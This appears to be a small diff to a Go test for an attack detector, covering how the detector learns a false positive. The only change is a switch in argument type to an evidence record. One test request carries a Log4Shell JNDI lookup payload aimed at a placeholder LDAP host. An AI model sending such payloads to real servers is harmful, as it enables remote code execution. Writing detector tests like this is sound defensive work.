@@ -146,7 +146,7 @@ func TestAFalsePositiveTeaches(t *testing.T) {
 		t.Fatalf("before: %s", got)
 	}
 	proof := visit(attacker, "/${jndi:ldap://x/a}")
-	if err := g.TeachFalsePositive("flag", []record.Request{*search(0), *search(1), *proof}, start); err != nil {
+	if err := g.TeachFalsePositive("flag", []record.Evidence{{Request: *search(0)}, {Request: *search(1)}, {Request: *proof}}, start); err != nil {
 		t.Fatal(err)
 	}
 	if got := attack(start.Add(time.Hour)); got != "[]" {
